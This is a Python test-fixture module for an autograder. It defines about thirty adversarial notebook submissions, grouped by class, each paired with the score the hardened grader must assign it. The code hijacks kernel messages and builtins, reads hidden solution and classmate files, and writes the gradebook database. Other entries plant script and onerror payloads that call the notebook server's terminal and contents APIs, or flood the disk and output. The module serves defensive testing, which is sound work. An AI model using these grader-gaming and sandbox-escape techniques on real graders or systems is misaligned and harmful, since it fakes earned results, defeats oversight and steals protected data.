"""Attacks on the grader, by class: submissions written to gain points they did not earn.

Each class is one way a submission could try to decide its own grade; each attack is a
real NPS notebook whose answer to the attacked question is wrong (or copied from where it
must not be readable), so that any point it gets for that question is a point it did not
earn. ``__COURSE__`` in a cell stands for the scratch course's absolute path, filled in
when the notebook is handed in: the attacker knows where everything is.

Every entry: name -> (notebook, file name, auto score it must get, phrase its record
must give or None, status, class).
"""

from __future__ import annotations

import nbformat

from .submissions import FULL, POINTS, answer, honest

MODEL_Q2 = """cells = json.loads(stolen)["cells"]
exec("".join(next(c["source"] for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == "q2_answer")))
"""

# -- manipulating what the grader reads
DISPLAYHOOK = """import sys
sys.displayhook = lambda value: None
sys.excepthook = lambda *args: None
nps_all = 55.5
"""

SESSION_SEND = """_kernel = get_ipython().kernel
_send = _kernel.session.send
def _all_ok(stream, msg_or_type, content=None, *args, **kwargs):
    if isinstance(content, dict) and content.get("status") == "error":
        content.update(status="ok", ename=None, evalue=None, traceback=[])
    if msg_or_type == "error":
        return None
    return _send(stream, msg_or_type, content, *args, **kwargs)
_kernel.session.send = _all_ok
change, change_pvalue, change_is_noise = 9.0, 0.5, True
"""

OUTPUT_HOOKS = """ip = get_ipython()
ip.display_pub.publish = lambda *args, **kwargs: None
ip.payload_manager.write_payload = lambda *args, **kwargs: None
ip.showtraceback = lambda *args, **kwargs: None
n_needed = 7
"""

INJECTING_THREAD = """import threading, time
def _inject():
    kernel = get_ipython().kernel
    while True:
        try:
            kernel.session.send(kernel.iopub_socket, "execute_result",
                                {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1},
                                parent=kernel.get_parent("shell"))
        except Exception:
            pass
        time.sleep(0.02)
threading.Thread(target=_inject, daemon=True).start()
changed_channels = ["email"]
biggest_fall = "email"
"""

SIGNAL_TIMER = """import signal
signal.signal(signal.SIGALRM, lambda *args: print("all checks passed"))
signal.setitimer(signal.ITIMER_REAL, 0.2, 0.2)
interval_low, interval_high = -50.0, 50.0
"""

# -- hijacking the guard (what the grader runs inside the kernel)
HIJACK_IMPORT = """import builtins, json
_real_import = builtins.__import__
class _Fake:
    @staticmethod
    def snapshot(namespace, names, calls=None):
        return json.dumps({name: 42.0 for name in names})
def _import(name, *args, **kwargs):
    if name.startswith("cxlab.course"):
        return _Fake
    return _real_import(name, *args, **kwargs)
builtins.__import__ = _import
nps_all = 42.0
"""

BUILTINS_DICT = """import builtins
vars(builtins)["isinstance"] = lambda *args: True
vars(builtins)["abs"] = lambda value: 0
vars(builtins)["type"] = lambda *args: float
focus_csat, focus_ces_agree, focus_nss = 1.0, 2.0, 3.0
"""

NUMPY_INTERNALS = """import numpy
numpy.isclose = numpy.allclose = lambda *args, **kwargs: True
numpy._core.umath.isfinite = lambda *args, **kwargs: True
numpy.ceil = lambda value: 1024
n_needed = 1024
"""

# -- racing the guard
RACING_THREAD = """import threading, math, time
import numpy
def _race():
    while True:
        math.isclose = lambda *args, **kwargs: True
        numpy.allclose = lambda *args, **kwargs: True
        time.sleep(0.001)
threading.Thread(target=_race, daemon=True).start()
change, change_pvalue, change_is_noise = 3.0, 0.2, False
"""

AUDIT_HOOK = """import sys, math
import cxlab
def _repatch(event, args):
    math.isclose = lambda *a, **k: True
    cxlab.nps_test = lambda *a, **k: None
sys.addaudithook(_repatch)
interval_low, interval_high = -1.0, 1.0
"""

# -- oracles
FRAME_ORACLE = """import sys
class Oracle(float):
    def __float__(self):
        frame = sys._getframe(1)
        while frame is not None:
            for name, value in frame.f_locals.items():
                if name.startswith("_hidden"):
                    return float(value)
            frame = frame.f_back
        return 0.0
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
nps_all = Oracle(0.0)
"""

SOURCE_ORACLE = """import re
class Reader(str):
    def __str__(self):
        source = get_ipython().user_ns["In"][-1]
        found = re.findall(r"'(\\w+)'", source)
        return found[0] if found else "phone"
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
class Channels(list):
    def __eq__(self, other):
        return True
changed_channels = Channels([Reader("chat")])
biggest_fall = Reader("phone")
"""

LOADER_CODE_SWAP = """import cxlab.data
import pandas
_fake = cxlab.data.load_survey().assign(recommend=10)
cxlab.data.load_survey.__code__ = (lambda *args, **kwargs: _fake).__code__
pandas.read_csv = lambda *args, **kwargs: _fake
nps_all = 100.0
"""

# -- escaping the sandbox: files outside it, processes that outlive it
THREAD_POOL_READ = """import concurrent.futures, json
stolen = concurrent.futures.ThreadPoolExecutor().submit(open, "__COURSE__/solutions/nps/nps.ipynb").result().read()
""" + MODEL_Q2

WRITE_GRADEBOOK = """import sqlite3
connection = sqlite3.connect("__COURSE__/gradebook.db")
connection.execute("update grade set auto_score = 99, manual_score = 99")
connection.commit()
interval_low, interval_high = 0.0, 1.0
"""

LEFTOVER = """import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time, sqlite3\\ntime.sleep(15)\\n"
                  "connection = sqlite3.connect('__COURSE__/gradebook.db')\\n"
                  "connection.execute('update grade set manual_score = 99')\\nconnection.commit()\\n"
                  "# cxlab-leftover-marker"], start_new_session=True)
subprocess.Popen(["sh", "-c", "nohup sleep 300 # cxlab-leftover-marker &"], start_new_session=True)
""" + answer("q4")

# -- copying from classmates
COPY_CLASSMATE = """import json
stolen = open("__COURSE__/submitted/honest-full/nps/nps.ipynb").read()
""" + MODEL_Q2

FIND_CLASSMATES = """import glob, json
found = glob.glob("/**/submitted/*/nps/*.ipynb", recursive=True) + glob.glob("__COURSE__/autograded/*/nps/*.ipynb")
cells = json.load(open(found[0]))["cells"]
exec("".join(next(c["source"] for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == "q6_answer")))
"""

# -- leaking the hidden tests into the student's own output (and so its feedback)
PRINT_CELLS = """import sys, threading, time
def _dump(result):
    print("RAN:", result.info.raw_cell)
get_ipython().events.register("post_run_cell", _dump)
def _spy():
    while True:
        for frame in list(sys._current_frames().values()):
            while frame is not None:
                print("FRAME:", frame.f_code.co_filename, frame.f_locals.get("source", ""))
                frame = frame.f_back
        time.sleep(0.5)
threading.Thread(target=_spy, daemon=True).start()
""" + answer("q6")

PRINT_HISTORY = """import os
def _everything(*args):
    ns = get_ipython().user_ns
    print("HISTORY:", ns.get("_ih"), ns.get("_oh"))
    for root, folders, files in os.walk("/"):
        if root.startswith(("/proc", "/sys", "/usr", "/dev")):
            continue
        for name in files:
            if name.endswith((".ipynb", ".json", ".db")):
                try:
                    print("FILE:", os.path.join(root, name), open(os.path.join(root, name)).read()[:20000])
                except Exception:
                    pass
get_ipython().events.register("pre_run_cell", _everything)
""" + answer("q7")

# -- blind spots of the static scan: cell magics
BASH_MAGIC = """%%bash
cat __COURSE__/solutions/nps/nps.ipynb > stolen.json 2>/dev/null
cat __COURSE__/submitted/honest-full/nps/nps.ipynb > classmate.json 2>/dev/null
true
"""

STOLEN_Q2 = """import json
try:
    stolen = open("stolen.json").read()
""" + "".join("    " + line + "\n" for line in MODEL_Q2.splitlines()) + """except Exception:
    nps_all = -1.0
"""

SCRIPT_MAGIC = """%%script python3
import sqlite3
connection = sqlite3.connect("__COURSE__/gradebook.db")
connection.execute("update grade set auto_score = 99")
connection.commit()
"""


# -- script in what the instructor opens (the formgrader and feedback pages render what a submission shows)
SHOW_SCRIPT = """from IPython.display import display
display({"text/html": "<b>fine</b><script>window.__pwned = 1; fetch('/api/contents/solutions')</script>"
                      "<img src=x onerror=\\"window.__pwned = 2\\">", "text/plain": "fine"}, raw=True)
"""

SHOW_ACTIVE_KINDS = """from IPython.display import display
display({"application/javascript": "window.__pwned = 3", "text/plain": "js"}, raw=True)
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
         "text/plain": "widget"}, raw=True)
display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned = 4'><script>window.__pwned = 5</script></svg>"},
        raw=True)
display({"text/markdown": "**bold** <iframe src='/api/terminals'></iframe>"}, raw=True)
"""

WRITTEN_WITH_SCRIPT = """The score hides *who* stays silent:

- promoters and detractors are counted, passives are not;
- a change of `0.1` in $\\frac{p - d}{n}$ can be noise.

<img src="x" onerror="fetch('/api/terminals', {method: 'POST'}); window.__pwned = 6">
<a href="javascript:window.__pwned = 7">more</a>
<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%">covers the page</div>
"""

# -- names past the answer list: the hand-over handler replaced, to send names no check declared
def _handover_replaced(trigger: str, answers: str) -> str:
    """Code that replaces the kernel's hand-over of answers: for the check whose names include
    ``trigger`` it sends the JSON of the Python expression ``answers``, for the others the truth."""
    return f"""import json
_kernel = get_ipython().kernel
_honest = _kernel.shell_handlers["cxlab_answers_request"]
def _fake(stream, ident, parent):
    if {trigger!r} not in parent["content"]["names"]:
        return _honest(stream, ident, parent)
    text = json.dumps({answers})
    _kernel.session.send(stream, "cxlab_answers_reply", {{"status": "ok", "answers": text}}, parent, ident)
_kernel.shell_handlers["cxlab_answers_request"] = _fake
"""


EXTRA_NAMES = _handover_replaced(
    "changed_channels", '{"changed_channels": {"$list": ["x"]}, "biggest_fall": "x", "CHANNELS": {"$tuple": ["x"]}, '
                        '"math": 1, "survey": None}') + """changed_channels = ["x"]
biggest_fall = "x"
"""

IMPORT_THROUGH_GLOBALS = """for __import__ in [lambda *args, **kwargs: None]:
    pass
for globals in [lambda: {"nps_all": 42.0}]:
    pass
""" + answer("q2")

# -- one student costing the others
DISPLAY_UPDATE_FLOOD = """from IPython.display import display, update_display
for _ in range(30):
    display({"text/plain": "x"}, raw=True, display_id="flood")
update_display({"text/plain": "y" * 2_000_000}, raw=True, display_id="flood")
""" + answer("q6")

FILL_THE_DISK = """import os
for index in range(10):
    try:
        with open(f"filler-{index}.bin", "wb") as handle:
            for _ in range(50):
                handle.write(b"x" * 2**20)
    except OSError:
        break
for folder in ("/run/cxlab/kernel", "/run/cxlab/given"):
    try:
        with open(os.path.join(folder, "filler.bin"), "wb") as handle:
            handle.write(b"x" * 2**20)
    except OSError:
        pass
""" + answer("q7")

DELIMITER_IN_A_COMMENT = """# my notes: ### BEGIN HIDDEN TESTS is where the grader hides things
""" + answer("q1")

COLLIDING_SET = _handover_replaced(
    "changed_channels", '{"changed_channels": {"$set": [1 + (2**61 - 1) * i for i in range(50_000)]}, '
                        '"biggest_fall": "x"}') + """changed_channels = ["x"]
biggest_fall = "x"
"""

PLACEHOLDER_FLOOD = _handover_replaced(
    "focus_csat", '{"focus_csat": {"$list": [{"$opaque": f"Type{i}"} for i in range(200_000)]}, '
                 '"focus_ces_agree": 1.0, "focus_nss": 1.0}') + """focus_csat, focus_ces_agree, focus_nss = 1.0, 2.0, 3.0
"""


def _with_written_answer(notebook, text: str):
    for cell in notebook.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "q9_written":
            cell.source = text
    return notebook


def _with_raw_cell(notebook, source: str, mime: str):
    notebook.cells.insert(3, nbformat.v4.new_raw_cell(source, metadata={"format": mime, "raw_mimetype": mime}))
    return notebook


def _with_cell_before(notebook, grade_id: str, source: str):
    """``notebook`` with a new code cell of the student's before the cell ``grade_id``."""
    for index, cell in enumerate(notebook.cells):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            notebook.cells.insert(index, nbformat.v4.new_code_cell(source))
            return notebook
    raise KeyError(grade_id)


def attacks() -> dict[str, tuple]:
    q = POINTS
    reads = "manipulating what the grader reads"
    guard = "hijacking the guard"
    race = "racing the guard"
    oracle = "oracles"
    escape = "escaping the sandbox"
    copying = "copying"
    leak = "leaking the hidden tests"
    magic = "blind spots of the static scan"
    shown = "script in what the instructor opens"
    names = "names past the answer list"
    others = "one student costing the others"
    return {
        "reads-displayhook": (honest({"q2_answer": DISPLAYHOOK}), "nps.ipynb", FULL - q["q2"], None, "graded", reads),
        "reads-session-send": (honest({"q4_answer": SESSION_SEND}), "nps.ipynb", FULL - q["q4"], None, "graded", reads),
        "reads-output-hooks": (honest({"q6_answer": OUTPUT_HOOKS}), "nps.ipynb", FULL - q["q6"], None, "graded", reads),
        "reads-injecting-thread": (honest({"q5_answer": INJECTING_THREAD}), "nps.ipynb", FULL - q["q5"], None, "graded",
                                   reads),
        "reads-signal-timer": (honest({"q3_answer": SIGNAL_TIMER}), "nps.ipynb", FULL - q["q3"], None, "graded", reads),
        # The hand-over imports nothing through the student's __import__: only its own wrong q2 costs it.
        "guard-hijack-import": (honest({"q2_answer": HIJACK_IMPORT}), "nps.ipynb", FULL - q["q2"], None, "graded",
                                guard),
        "guard-builtins-dict": (honest({"q7_answer": BUILTINS_DICT}), "nps.ipynb", FULL - q["q7"] - q["q8"], None, "graded",
                                guard),
        "guard-numpy-internals": (honest({"q6_answer": NUMPY_INTERNALS}), "nps.ipynb", FULL - q["q6"], None, "graded",
                                  guard),
        "race-thread": (honest({"q4_answer": RACING_THREAD}), "nps.ipynb", FULL - q["q4"], None, "graded", race),
        # Its hook replaces cxlab.nps_test in its own kernel, which its own q4 and q5 answers call.
        "race-audit-hook": (honest({"q3_answer": AUDIT_HOOK}), "nps.ipynb", FULL - q["q3"] - q["q4"] - q["q5"] - q["q8"], None,
                            "graded", race),
        "oracle-frames": (honest({"q2_answer": FRAME_ORACLE}), "nps.ipynb", FULL - q["q2"], None, "graded", oracle),
        "oracle-test-source": (honest({"q5_answer": SOURCE_ORACLE}), "nps.ipynb", FULL - q["q5"], None, "graded", oracle),
        "oracle-loader-swap": (honest({"q2_answer": LOADER_CODE_SWAP}), "nps.ipynb", FULL - q["q2"], None, "graded",
                               oracle),
        "escape-thread-pool-read": (honest({"q2_answer": THREAD_POOL_READ}), "nps.ipynb", FULL - q["q2"], None, "graded",
                                    escape),
        "escape-write-gradebook": (honest({"q3_answer": WRITE_GRADEBOOK}), "nps.ipynb", FULL - q["q3"], None, "graded",
                                   escape),
        "escape-leftover-process": (honest({"q4_answer": LEFTOVER}), "nps.ipynb", FULL, None, "graded", escape),
        "copy-classmate": (honest({"q2_answer": COPY_CLASSMATE}), "nps.ipynb", FULL - q["q2"], None, "graded", copying),
        "copy-find-classmates": (honest({"q6_answer": FIND_CLASSMATES}), "nps.ipynb", FULL - q["q6"], None, "graded",
                                 copying),
        "leak-print-cells": (honest({"q6_answer": PRINT_CELLS}), "nps.ipynb", FULL, None, "graded", leak),
        "leak-print-everything": (honest({"q7_answer": PRINT_HISTORY}), "nps.ipynb", FULL, None, "graded", leak),
        "magic-bash-reads": (_with_cell_before(honest({"q2_answer": STOLEN_Q2}), "q2_answer", BASH_MAGIC), "nps.ipynb",
                             FULL - q["q2"], None, "graded", magic),
        "magic-script-writes": (_with_cell_before(honest(), "q3_answer", SCRIPT_MAGIC), "nps.ipynb", FULL, None,
                                "graded", magic),
        "show-html-script": (_with_cell_before(honest(), "q1_answer", SHOW_SCRIPT), "nps.ipynb", FULL,
                             "removed from an HTML output", "graded", shown),
        "show-active-kinds": (_with_cell_before(honest(), "q2_answer", SHOW_ACTIVE_KINDS), "nps.ipynb", FULL,
                              "removed an output of kind application/javascript", "graded", shown),
        "written-answer-script": (_with_written_answer(honest(), WRITTEN_WITH_SCRIPT), "nps.ipynb", FULL,
                                  "removed from the written text", "graded", shown),
        "raw-cell-html": (_with_raw_cell(honest(), "<script>window.__pwned = 8</script><p>notes</p>", "text/html"),
                          "nps.ipynb", FULL, "removed from a raw cell", "graded", shown),
        "names-extra-handed-over": (honest({"q5_answer": EXTRA_NAMES}), "nps.ipynb", FULL - q["q5"],
                                    "which were refused: CHANNELS, math, survey", "graded", names),
        "names-import-through-globals": (honest({"q2_answer": IMPORT_THROUGH_GLOBALS}), "nps.ipynb", FULL, None,
                                         "graded", names),
        "others-display-update-flood": (honest({"q6_answer": DISPLAY_UPDATE_FLOOD}), "nps.ipynb", FULL,
                                        "output cut at the limit", "graded", others),
        "others-fill-the-disk": (honest({"q7_answer": FILL_THE_DISK}), "nps.ipynb", FULL, None, "graded", others),
        "others-delimiter-in-a-comment": (honest({"q1_answer": DELIMITER_IN_A_COMMENT}), "nps.ipynb", FULL, None,
                                          "graded", others),
        "others-colliding-set": (honest({"q5_answer": COLLIDING_SET}), "nps.ipynb", FULL - q["q5"], None,
                                 "graded", others),
        "others-placeholder-flood": (honest({"q7_answer": PLACEHOLDER_FLOOD}), "nps.ipynb", FULL - q["q7"], None,
                                     "graded", others),
        "others-terminal-escapes": (honest(), "my\x1b[1A\x1b[2Knps.ipynb", FULL, "as nps.ipynb", "graded", others),
    }


ATTACK_CLASSES = ("manipulating what the grader reads", "hijacking the guard", "racing the guard", "oracles",
                  "escaping the sandbox", "copying", "leaking the hidden tests", "blind spots of the static scan",
                  "script in what the instructor opens", "names past the answer list", "one student costing the others")
